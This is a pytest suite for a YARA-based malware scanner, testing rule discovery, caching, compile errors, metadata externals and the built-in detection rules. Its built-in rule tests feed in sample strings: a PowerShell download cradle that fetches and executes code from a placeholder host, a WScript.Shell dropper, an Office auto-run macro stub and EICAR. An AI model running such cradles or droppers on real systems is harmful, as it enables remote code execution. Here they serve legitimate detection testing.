"""Rule sets: discovery, versioning, compile errors, the compiled cache, externals,
and the built-in rules themselves (real yara-python, in-process)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
import yara
from samples import EICAR

from sentinel_ipc.errors import RulesError
from sentinel_ipc.scanning.rules import (
    BUILTIN_RULES_DIR,
    EXTERNALS,
    cached_rules,
    compile_in_subprocess,
    compile_to_cache,
    discover_rule_files,
    externals_for,
    load_rules,
    load_rules_sync,
    prune_cache,
    sources_digest,
)
from sentinel_ipc.scanning.worker import guess_filetype


def write(root: Path, rel: str, text: str) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


# --- discovery and versions -------------------------------------------------------


def test_discovery_sorted_recursive_one_namespace_per_file(tmp_path: Path) -> None:
    write(tmp_path, "b.yar", "rule b { condition: true }")
    write(tmp_path, "a/inner.yara", "rule i { condition: true }")
    write(tmp_path, "c.YAR", "rule c { condition: true }")
    write(tmp_path, "notes.txt", "not a rule")
    write(tmp_path, ".hidden.yar", "rule h { condition: true }")
    write(tmp_path, ".git/x.yar", "rule g { condition: true }")
    sources = discover_rule_files(tmp_path)
    assert [s.relpath for s in sources] == ["a/inner.yara", "b.yar", "c.YAR"]
    assert [s.namespace for s in sources] == ["a/inner", "b", "c"]


def test_same_stem_keeps_suffix_in_namespace(tmp_path: Path) -> None:
    write(tmp_path, "x.yar", "rule a { condition: true }")
    write(tmp_path, "x.yara", "rule b { condition: true }")
    assert [s.namespace for s in discover_rule_files(tmp_path)] == ["x.yar", "x.yara"]


def test_directory_without_rules_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(RulesError, match=r"no \.yar/\.yara files"):
        discover_rule_files(tmp_path)
    write(tmp_path, "only.txt", "x")
    with pytest.raises(RulesError, match=r"no \.yar/\.yara files"):
        discover_rule_files(tmp_path)


def test_missing_directory_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(RulesError, match="does not exist"):
        discover_rule_files(tmp_path / "nope")


def test_version_depends_on_names_and_contents_only(tmp_path: Path) -> None:
    a = write(tmp_path, "a.yar", "rule a { condition: true }")
    first = sources_digest(discover_rule_files(tmp_path))
    assert sources_digest(discover_rule_files(tmp_path)) == first
    os.utime(a, (1, 1))  # mtime is not part of the identity
    assert sources_digest(discover_rule_files(tmp_path)) == first
    a.write_text("rule a { condition: false }")
    changed = sources_digest(discover_rule_files(tmp_path))
    assert changed != first
    a.rename(tmp_path / "b.yar")
    assert sources_digest(discover_rule_files(tmp_path)) not in (first, changed)


# --- compiling -------------------------------------------------------------------


def test_compile_error_names_file_line_and_message(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    write(rules, "good.yar", "rule good { condition: true }")
    write(rules, "sub/bad.yar",
          "rule ok { condition: true }\n\nrule bad {\n condition: foo == 1\n}\n")
    with pytest.raises(RulesError) as info:
        compile_to_cache(discover_rule_files(rules), str(rules), False, tmp_path / "cache")
    assert info.value.message == 'sub/bad.yar:4: undefined identifier "foo"'
    assert not (tmp_path / "cache").exists()  # nothing written for a failed compile


def test_compile_child_reports_the_error_too(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    write(rules, "broken.yar", "rule broken {\n  strings: $a = \"x\"\n  condition: $a and\n}\n")
    with pytest.raises(RulesError, match=r"^broken\.yar:4: syntax error"):
        compile_in_subprocess(str(rules), tmp_path / "cache")


def test_externals_are_defined_so_loki_style_rules_compile(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    write(rules, "ext.yar", "\n".join(
        f'rule uses_{name} {{ condition: {name} == "x" }}' for name in EXTERNALS
    ))
    info = load_rules_sync(str(rules), tmp_path / "cache")
    assert info.rule_count == len(EXTERNALS)
    compiled = yara.load(info.compiled_path)
    assert [m.rule for m in compiled.match(data=b"", externals={"extension": "x"})] == [
        "uses_extension"
    ]


def test_compiled_rules_are_cached_by_source_hash(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    write(rules, "a.yar", "rule a { condition: true }")
    cache = tmp_path / "cache"
    first = load_rules_sync(str(rules), cache)
    assert not first.cached and Path(first.compiled_path).exists()
    again = load_rules_sync(str(rules), cache)
    assert again.cached and again.key == first.key and again.version == first.version
    assert again.version == first.digest[:12]
    # A corrupted compiled file is not trusted: it is compiled again.
    Path(first.compiled_path).write_bytes(b"garbage")
    _sources, hit = cached_rules(str(rules), cache)
    assert hit is None
    assert not load_rules_sync(str(rules), cache).cached


def test_prune_keeps_the_current_set_and_a_few_recent(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    keys = []
    for i in range(6):
        rules = tmp_path / f"r{i}"
        write(rules, "a.yar", f"rule a{i} {{ condition: true }}")
        info = load_rules_sync(str(rules), cache)
        os.utime(cache / f"{info.key}.json", (1000 + i, 1000 + i))
        keys.append(info.key)
    prune_cache(cache, keep_key=keys[0], keep=2)
    left = sorted(p.stem for p in cache.glob("*.json"))
    assert left == sorted([keys[0], keys[5], keys[4]])
    assert sorted(p.stem for p in cache.glob("*.yarc")) == left


async def test_async_load_compiles_in_a_child_then_hits_the_cache(tmp_path: Path) -> None:
    info = await load_rules(None, tmp_path)
    assert info.builtin and not info.cached and info.rule_count >= 5
    again = await load_rules(None, tmp_path)
    assert again.cached and again.version == info.version


async def test_async_load_raises_rules_error(tmp_path: Path) -> None:
    write(tmp_path / "r", "x.yar", "rule x { condition: nope }")
    with pytest.raises(RulesError, match=r'^x\.yar:1: undefined identifier "nope"'):
        await load_rules(str(tmp_path / "r"), tmp_path / "cache")


# --- external variables from request metadata --------------------------------------


@pytest.mark.parametrize(
    ("url", "filename", "expected"),
    [
        (None, None, ("", "", "")),
        (None, "setup.EXE", ("setup.EXE", "setup.EXE", ".exe")),
        (None, "C:\\Users\\a\\Downloads\\invoice.pdf.exe", (
            "invoice.pdf.exe", "C:\\Users\\a\\Downloads\\invoice.pdf.exe", ".exe")),
        (None, "/tmp/archive.tar.GZ", ("archive.tar.GZ", "/tmp/archive.tar.GZ", ".gz")),
        (None, ".bashrc", (".bashrc", ".bashrc", "")),
        (None, "trailingdot.", ("trailingdot.", "trailingdot.", "")),
        ("https://example.com/dl/Tool.msi?x=1#frag", None, ("Tool.msi", "/dl/Tool.msi", ".msi")),
        ("https://example.com", None, ("", "", "")),
        ("https://example.com/a.zip", "given.doc", ("given.doc", "given.doc", ".doc")),
    ],
)
def test_externals_for(url: str | None, filename: str | None,
                       expected: tuple[str, str, str]) -> None:
    ext = externals_for(url, filename)
    assert (ext["filename"], ext["filepath"], ext["extension"]) == expected
    assert set(ext) == set(EXTERNALS)
    assert ext["owner"] == "" and ext["filetype"] == ""


def test_externals_are_bounded_and_nul_free() -> None:
    ext = externals_for(None, "a\0b" + "x" * 10_000 + ".exe")
    assert "\0" not in ext["filepath"] and len(ext["filepath"]) <= 4096


@pytest.mark.parametrize(
    ("head", "kind"),
    [(b"MZ\x90\x00", "EXE"), (b"\x7fELF\x02", "ELF"), (b"%PDF-1.7", "PDF"),
     (b"PK\x03\x04", "ZIP"), (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "OLE"), (b"hello", ""),
     (b"", "")],
)
def test_filetype_from_magic(head: bytes, kind: str) -> None:
    assert guess_filetype(head) == kind


# --- the built-in rules --------------------------------------------------------------


@pytest.fixture(scope="module")
def builtin(tmp_path_factory: pytest.TempPathFactory) -> yara.Rules:
    info = load_rules_sync(None, tmp_path_factory.mktemp("cache"))
    assert info.builtin and info.warnings == []
    return yara.load(info.compiled_path)


def match(rules: yara.Rules, data: bytes, filename: str | None = None) -> set[str]:
    externals = externals_for(None, filename)
    externals["filetype"] = guess_filetype(data[:16])
    return {m.rule for m in rules.match(data=data, externals=externals)}


def test_every_builtin_rule_has_description_and_severity(builtin: yara.Rules) -> None:
    rules = list(builtin)
    assert len(rules) >= 5
    for rule in rules:
        assert rule.meta.get("description"), rule.identifier
        assert rule.meta.get("severity") in {"low", "medium", "high", "critical"}, rule.identifier


def test_some_builtin_rule_uses_the_extension_external() -> None:
    texts = [p.read_text() for p in BUILTIN_RULES_DIR.glob("*.yar")]
    assert any("extension ==" in t for t in texts)


def test_builtin_eicar(builtin: yara.Rules) -> None:
    assert match(builtin, EICAR) == {"EICAR_Test_File"}
    assert match(builtin, EICAR + b"\r\n") == {"EICAR_Test_File"}
    assert match(builtin, b"x" * 1000 + EICAR + b"y" * 1000) == {"EICAR_Embedded"}
    assert match(builtin, EICAR[:-1]) == set()


def test_builtin_masquerade_uses_request_metadata(builtin: yara.Rules) -> None:
    pe = b"MZ" + b"\0" * 200
    assert match(builtin, pe, "report.pdf") == {"Executable_With_Document_Extension"}
    assert match(builtin, pe, "REPORT.PDF") == {"Executable_With_Document_Extension"}
    assert match(builtin, pe, "setup.exe") == set()
    assert match(builtin, pe, None) == set()
    assert match(builtin, b"%PDF-1.7 ...", "report.pdf") == set()
    assert match(builtin, b"anything", "invoice.pdf.exe") == {"Double_Extension_Executable_Name"}
    assert match(builtin, b"anything", "invoice.exe") == set()


def test_builtin_script_and_macro_rules(builtin: yara.Rules) -> None:
    cradle = b"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x')\""
    assert match(builtin, cradle) == {"PowerShell_Download_Cradle"}
    dropper = b'var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c calc");'
    assert match(builtin, dropper) == {"Windows_Script_Shell_Dropper"}
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64 + b"VBA_PROJECT ... Sub AutoOpen()"
    assert match(builtin, ole) == {"Office_AutoExec_Macro"}
    assert match(builtin, b"Sub AutoOpen() plain text, no OLE header VBA_PROJECT") == set()


def test_builtin_rules_stay_quiet_on_ordinary_bytes(builtin: yara.Rules) -> None:
    assert match(builtin, os.urandom(1 << 16)) == set()
    assert match(builtin, b"The quick brown fox jumps over the lazy dog.\n" * 500, "a.txt") == set()
